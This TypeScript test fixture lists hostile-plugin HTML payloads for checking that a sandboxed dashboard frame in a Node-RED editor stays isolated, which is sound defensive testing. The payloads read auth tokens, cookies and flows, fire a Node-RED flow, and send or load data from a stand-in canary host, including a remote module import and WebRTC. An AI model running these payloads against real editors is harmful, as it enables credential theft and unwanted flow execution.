/**
 * What a hostile dashboard plugin may put into its page, each as one attack with the damage it does where nothing holds it
 * (`control`): the same HTML in a frame of the editor's origin without sandbox and policy. An attack whose control does
 * no damage would prove nothing.
 *
 * In the pages: `$HTTP` is the canary, `$STUN` its datagrams, `/inject/bait` fires a flow of Node-RED. `take(work)` keeps what
 * the attack got hold of, at once or later; what throws got nothing.
 */
export interface Attack {
  readonly tries: string;
  readonly html: string;
  /** What the same page does where it is not kept foreign. */
  readonly control: RegExp;
  /** The frame is clicked: some things a browser grants only to a user's hand. */
  readonly clicked?: true;
}

/** Before each attack. A loot is a non-empty text. */
export const TOOLS = `<!doctype html><html lang="en"><title>attack</title><body><p id="hit">attack</p><script>
var loot=[], tried=0;
function take(work){tried++;try{Promise.resolve(work()).then(v=>{if(v)loot.push(String(v))},()=>{})}catch(e){}}
function add(tag,attributes){tried++;var e=document.createElement(tag);Object.assign(e,attributes);document.body.append(e);return e}
</script>`;

const script = (text: string): string => `<script>${text}</script>`;

export const ATTACKS: readonly Attack[] = [
  {
    tries: 'to read what the editor keeps in the browser',
    html: script(
      `take(()=>localStorage.getItem('auth-tokens'));take(()=>parent.localStorage.getItem('auth-tokens'));take(()=>sessionStorage.getItem('auth-tokens'));take(()=>new Promise((ok,no)=>{var r=indexedDB.open('x');r.onsuccess=()=>ok('a database');r.onerror=no}));take(()=>caches.keys().then(()=>'caches'))`,
    ),
    control: /loot: SECRET/,
  },
  {
    tries: 'to read cookies',
    html: script(
      `take(()=>document.cookie);take(()=>parent.document.cookie);take(()=>cookieStore.getAll().then(c=>c.map(x=>x.value).join()))`,
    ),
    control: /loot: .*SECRET/,
  },
  {
    tries: 'to reach into the page around it',
    html: script(
      `take(()=>parent.document.title+'read');take(()=>top.location.href);take(()=>frameElement.id+'frame');take(()=>{parent.document.body.dataset.x='x';return 'written'})`,
    ),
    control: /loot: /,
  },
  {
    tries: 'to send the window elsewhere by script',
    html: script(
      `take(()=>{top.location='$HTTP/top'});take(()=>{parent.location.replace('$HTTP/replace')});take(()=>{open('$HTTP/named','_top')})`,
    ),
    control: /canary: .*GET \/(?:top|replace|named)/,
  },
  {
    tries: 'to send the window elsewhere by a link',
    html: `<a id="l" href="$HTTP/link" target="_top">x</a>${script(`take(()=>document.getElementById('l').click())`)}`,
    control: /canary: .*GET \/link/,
  },
  {
    tries: 'to send the window elsewhere by a base',
    html: `<base href="$HTTP/" target="_parent"><a id="l" href="based">x</a>${script(`take(()=>document.getElementById('l').click())`)}`,
    control: /canary: .*GET \/based/,
  },
  {
    tries: 'to send a form',
    html: `<form id="f" method="post" action="$HTTP/form" target="_top"><input name="a" value="b"></form>
      <form id="g" method="post" action="/inject/bait"></form>${script(`take(()=>document.getElementById('f').submit());take(()=>document.getElementById('g').submit())`)}`,
    control: /canary: .*POST \/form|the bait/,
  },
  {
    tries: 'to go elsewhere itself, by refresh',
    html: '<meta http-equiv="refresh" content="0;url=$HTTP/refresh">',
    control: /canary: .*GET \/refresh/,
  },
  {
    tries: 'to go elsewhere itself, by script',
    html: script(`take(()=>{location='$HTTP/self'})`),
    control: /canary: .*GET \/self/,
  },
  {
    tries: 'to go back in the history of the window',
    html: script(`take(()=>{history.back()});take(()=>{parent.history.back()});take(()=>{top.history.go(-1)})`),
    control: /the window is at/,
  },
  {
    tries: 'to become the editor',
    html: script(`take(()=>{location.href='$SELF/'})`),
    control: /the frame is http/,
  },
  {
    tries: 'to become a page of its own making, by data:',
    html: script(`take(()=>{location='data:text/html,<p>elsewhere'})`),
    control: /the frame is data:/,
  },
  {
    tries: 'to become a page of its own making, by blob:',
    html: script(`take(()=>{location=URL.createObjectURL(new Blob(['<p>elsewhere'],{type:'text/html'}))})`),
    control: /the frame is blob:/,
  },
  {
    tries: 'to open windows',
    html: `<a id="l" href="$HTTP/blank" target="_blank">x</a>${script(`onclick=()=>take(()=>open('$HTTP/popup')&&'a window');take(()=>open('$HTTP/popup')&&'a window');take(()=>document.getElementById('l').click())`)}`,
    control: /canary: .*GET \/(?:popup|blank)|windows/,
    clicked: true,
  },
  {
    tries: 'to fire a flow of Node-RED',
    html: script(
      `take(()=>fetch('$SELF/inject/bait',{method:'POST',mode:'no-cors'}).then(()=>'fetched'));take(()=>{var x=new XMLHttpRequest();x.open('POST','$SELF/inject/bait');x.send()});take(()=>{navigator.sendBeacon('$SELF/inject/bait')});take(()=>fetch('$SELF/inject/bait',{method:'POST',mode:'no-cors',keepalive:true}).then(()=>'kept alive'))`,
    ),
    control: /the bait/,
  },
  {
    tries: 'to read from Node-RED: flows, settings, comms, events',
    html: script(
      `take(()=>fetch('$SELF/flows').then(r=>r.text()));take(()=>fetch('$SELF/settings',{credentials:'include'}).then(r=>r.text()));take(()=>new Promise((ok,no)=>{var s=new WebSocket('$SELF/comms'.replace('http','ws'));s.onopen=()=>ok('comms');s.onerror=no}));take(()=>new Promise((ok,no)=>{var s=new EventSource('$SELF/decoy/events');s.onmessage=s.onopen=()=>ok('events');s.onerror=no}))`,
    ),
    control: /loot: .*"type":"tab"/,
  },
  {
    tries: 'to send something elsewhere by script',
    html: script(
      `take(()=>fetch('$HTTP/fetch').then(r=>r.text()));take(()=>{navigator.sendBeacon('$HTTP/beacon','x')});take(()=>{var x=new XMLHttpRequest();x.open('GET','$HTTP/xhr');x.send()});take(()=>{new WebSocket('$HTTP/ws'.replace('http','ws'))});take(()=>{new EventSource('$HTTP/sse')});take(()=>new WebTransport('$HTTP/wt'.replace('http','https')).ready.then(()=>'transport'));take(()=>import('$HTTP/module.js'))`,
    ),
    control: /canary: .*GET \/fetch/,
  },
  {
    tries: 'to load from elsewhere: images, scripts, styles, fonts, media',
    html: `<link rel="stylesheet" href="$HTTP/style"><style>@import '$HTTP/import';@font-face{font-family:f;src:url('$HTTP/font')}body{font-family:f;background:url('$HTTP/background')}</style>
      <img src="$HTTP/img" srcset="$HTTP/srcset 2x" alt=""><script src="$HTTP/script"></script><video src="$HTTP/video" poster="$HTTP/poster"></video><audio src="$HTTP/audio" autoplay></audio>
      <svg><image href="$HTTP/svg" /><use href="$HTTP/use#x" /></svg><input type="image" src="$HTTP/input" alt=""><track src="$HTTP/track">${script(`take(()=>{new Image().src='$HTTP/new-image'})`)}`,
    control: /canary: .*GET \/img/,
  },
  {
    tries: 'to load frames and objects from elsewhere',
    html: `<iframe src="$HTTP/frame"></iframe><object data="$HTTP/object"></object><embed src="$HTTP/embed"><iframe src="$SELF/"></iframe>${script('tried++')}`,
    control: /canary: .*GET \/frame/,
  },
  {
    tries: 'to have the browser connect or look up a name beforehand',
    html: `<link rel="preconnect" href="$HTTP"><link rel="dns-prefetch" href="$HTTP"><link rel="prefetch" href="$HTTP/prefetch"><link rel="preload" as="image" href="$HTTP/preload">
      <link rel="modulepreload" href="$HTTP/modulepreload"><link rel="icon" href="$HTTP/icon"><link rel="manifest" href="$HTTP/manifest">
      <meta http-equiv="x-dns-prefetch-control" content="on"><a id="l" href="#x" ping="$HTTP/ping">x</a>
      <script type="speculationrules">{"prefetch":[{"source":"list","urls":["$HTTP/spec"]}],"prerender":[{"source":"list","urls":["$HTTP/render"]}]}</script>${script(`take(()=>document.getElementById('l').click())`)}`,
    control: /canary: .*GET \/(?:prefetch|preload)/,
  },
  {
    tries: 'to reach elsewhere by WebRTC',
    html: script(
      `var rtc="take(()=>{var p=new RTCPeerConnection({iceServers:[{urls:'$STUN'}]});p.createDataChannel('x');return p.createOffer().then(o=>p.setLocalDescription(o))})";take(()=>{(0,eval)(rtc)});`,
    ),
    control: /canary: .*a datagram/,
  },
  {
    tries: 'to reach elsewhere by WebRTC of a frame within',
    html: `<iframe srcdoc="<script>var p=new RTCPeerConnection({iceServers:[{urls:'$STUN'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>"></iframe>${script('tried++')}`,
    control: /canary: .*a datagram/,
  },
  {
    tries: 'to reach elsewhere by WebRTC of a frame within a shadow root',
    html: `<div><template shadowrootmode="open"><iframe srcdoc="<script>var p=new RTCPeerConnection({iceServers:[{urls:'$STUN'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>"></iframe></template></div>${script('tried++')}`,
    control: /canary: .*a datagram/,
  },
  {
    tries: 'to leave a worker behind',
    html: script(
      `take(()=>new Promise((ok,no)=>{var w=new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));w.onmessage=()=>ok('a worker');w.onerror=no}));take(()=>navigator.serviceWorker.register('/sw.js').then(()=>'a service worker'));take(()=>new Promise((ok,no)=>{var w=new SharedWorker('data:text/javascript,onconnect=e=>e.ports[0].postMessage(1)');w.port.onmessage=()=>ok('shared');w.onerror=no}))`,
    ),
    control: /loot: .*a worker/,
  },
  {
    tries: 'to hear and to speak where the tabs of the dashboard share their stream',
    // A channel that nobody else hears brings nothing; what another document of this origin hears is said by the shell's own words.
    html: script(
      `take(()=>new Promise(ok=>{var c=new BroadcastChannel('edge-wasi.streams');c.onmessage=({data})=>ok('a claim of '+data.since);setInterval(()=>c.postMessage({since:0,lot:Math.random()}),100)}));
      for(const url of ['$SELF/decoy/stream.js?build=$BUILD','./stream.js?build=$BUILD','/decoy/stream.js?build=$BUILD','/decoy/stream.js'])take(()=>new Promise((ok,no)=>{var w=new SharedWorker(url);w.onerror=no;w.port.onmessage=({data})=>data.page&&ok('a page of '+data.page.revision);w.port.start();w.port.postMessage({round:1,revision:'none'})}));
      take(()=>new Promise((ok,no)=>{var w=new Worker('$SELF/decoy/stream.js?build=$BUILD');w.onmessage=ok;w.onerror=no}));
      take(()=>navigator.locks.request('x',()=>'a lock'))`,
    ),
    control: /loot: .*a page of/,
  },
  {
    tries: 'to open dialogs',
    html: script(
      `take(()=>{alert('x')});take(()=>{confirm('x')});take(()=>prompt('x'));take(()=>{print()});onbeforeunload=e=>{e.preventDefault();return 'x'}`,
    ),
    control: /dialogs: .*alert/,
  },
  {
    tries: 'to download a file',
    html: `<a id="l" download="x.txt" href="data:text/plain,x">x</a>${script(`take(()=>document.getElementById('l').click())`)}`,
    control: /downloads: x\.txt/,
  },
  {
    tries: 'to take screen, pointer and clipboard',
    html: script(
      `onclick=()=>{take(()=>document.documentElement.requestFullscreen().then(()=>'fullscreen'));take(()=>document.body.requestPointerLock().then(()=>'pointer'));take(()=>navigator.clipboard.writeText('x').then(()=>'clipboard'));take(()=>navigator.mediaDevices.getUserMedia({audio:true}).then(()=>'microphone'));take(()=>navigator.getBattery().then(()=>''))}`,
    ),
    control: /loot: .*fullscreen/,
    clicked: true,
  },
  {
    tries: 'to lie over the bar below it',
    html: `<style>body{position:fixed;inset:-9999px;z-index:2147483647;transform:scale(9)}</style><dialog id="d" style="position:fixed;bottom:-500px;height:900px;width:9999px">x</dialog>
      <div id="p" popover style="position:fixed;inset:auto 0 -300px 0;height:600px;width:100%">x</div>${script(`take(()=>{document.getElementById('d').showModal()});take(()=>{document.getElementById('p').showPopover()});take(()=>{parent.document.querySelector('footer').style.display='none'});take(()=>{frameElement.style.position='fixed';frameElement.style.inset='0';frameElement.style.height='100vh'})`)}`,
    control: /the bar is covered/,
  },
];
